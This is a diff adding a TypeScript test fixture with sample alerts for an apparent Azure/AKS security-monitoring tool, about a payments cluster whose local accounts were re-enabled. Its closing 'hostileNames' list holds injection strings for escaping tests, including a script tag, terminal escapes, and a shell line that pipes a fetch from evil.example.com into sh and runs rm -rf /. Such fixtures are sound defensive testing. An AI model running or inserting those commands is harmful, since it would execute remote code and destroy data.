@@ -1,0 +1,124 @@
+import type { ClusterAlert, ConcernAlert, HeldFinding } from '../../shared/domain/alert.ts'
+import type { Cause } from '../../shared/domain/cause.ts'
+import type { Transition } from '../../shared/domain/transition.ts'
+
+const id =
+  '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-payments/providers/Microsoft.ContainerService/managedClusters/payments-prod'
+
+export const cause: Cause = {
+  caller: {
+    kind: 'application',
+    applicationId: '00000000-0000-0000-0000-00000000000a',
+    team: 'payments',
+    repository: 'example/payments-infra',
+  },
+  operation: 'Microsoft.ContainerService/managedClusters/write',
+  resourceId: id,
+  at: '2026-11-23T11:59:00.000Z',
+  correlationId: '00000000-0000-0000-0000-00000000000c',
+  changed: [{ at: '/properties/disableLocalAccounts', before: true, after: false }],
+}
+
+export const finding: HeldFinding = {
+  control: 'aks-local-accounts-disabled',
+  title: 'Local accounts are disabled',
+  severity: 'high',
+  because: 'the admin kubeconfig bypasses Entra ID',
+  targets: [],
+  at: '/properties/disableLocalAccounts',
+  since: '2026-11-23T12:00:00.000Z',
+  cause,
+  why: 'A local account is a shared certificate: nobody behind it, no MFA, no revoking one user.',
+  fix: 'az aks update -g <group> -n <cluster> --disable-local-accounts',
+}
+
+export const opened: Transition = {
+  kind: 'opened',
+  control: finding.control,
+  title: finding.title,
+  severity: 'high',
+  verdict: { status: 'fail', because: finding.because, targets: [] },
+  at: '2026-11-23T12:00:00.000Z',
+  since: '2026-11-23T12:00:00.000Z',
+  cause,
+  silent: false,
+  unsettled: false,
+}
+
+export function clusterAlert(more: Partial<ClusterAlert> = {}): ClusterAlert {
+  return {
+    v: 1,
+    key: '0123456789abcdef0123456789abcdef',
+    version: 1_795_435_200_000,
+    route: 'payments',
+    state: 'open',
+    severity: 'high',
+    title: 'payments-prod: the admin kubeconfig bypasses Entra ID',
+    at: '2026-11-23T12:00:00.000Z',
+    about: 'cluster',
+    cluster: {
+      id,
+      kind: 'aks',
+      name: 'payments-prod',
+      subscriptionId: '00000000-0000-0000-0000-000000000001',
+      resourceGroup: 'rg-payments',
+      location: 'westeurope',
+    },
+    changes: [opened],
+    open: [finding],
+    ...more,
+  }
+}
+
+export const resolvedAlert: ClusterAlert = clusterAlert({
+  state: 'resolved',
+  version: 1_795_435_260_000,
+  title: 'payments-prod: resolved: Local accounts are disabled',
+  changes: [
+    {
+      ...opened,
+      kind: 'resolved',
+      verdict: { status: 'pass', because: 'local accounts are off' },
+    },
+  ],
+  open: [],
+})
+
+export const concernAlert: ConcernAlert = {
+  v: 1,
+  key: 'fedcba9876543210fedcba9876543210',
+  version: 1_795_435_200_000,
+  route: 'default',
+  state: 'open',
+  severity: 'high',
+  title: 'Plimsoll itself: Plimsoll cannot read managedCluster',
+  at: '2026-11-23T12:00:00.000Z',
+  about: 'plimsoll',
+  concern: {
+    cause: 'forbidden: managedCluster',
+    scope: '/subscriptions/00000000-0000-0000-0000-000000000001',
+    title: 'Plimsoll cannot read managedCluster',
+    because: 'Resource Manager answered 403',
+    fix: 'Grant the collecting identity the Plimsoll reader role at this scope: plimsoll doctor',
+  },
+}
+
+/** Names that mean something to Markdown, HTML, terminals, shells and templates. */
+export const hostileNames = [
+  '[click](https://evil.example.com)',
+  '**bold** _it_ ~~no~~ `code`',
+  '# heading\n> quote\n- item',
+  '<script>alert(1)</script><at>everyone</at>',
+  '| a | b |\n|---|---|',
+  '\u001b[2J\u001b[31mred\u0007\u0000',
+  '\u202Etxt.exe\u2066\u200B\uFEFF',
+  `{{DATE(2026-11-23T12:00:00Z)}} ${'$'}{env} @{body()}`,
+  '$(curl evil.example.com | sh); `id` && rm -rf /',
+  '\uD800 lone surrogate',
+  '1. one\\[2](x)',
+  '![x](http://198.51.100.1/p.png)',
+  'a\u0301'.repeat(3000),
+  '🚢'.repeat(5000),
+  'x'.repeat(10_000),
+  '['.repeat(10_000),
+] as const
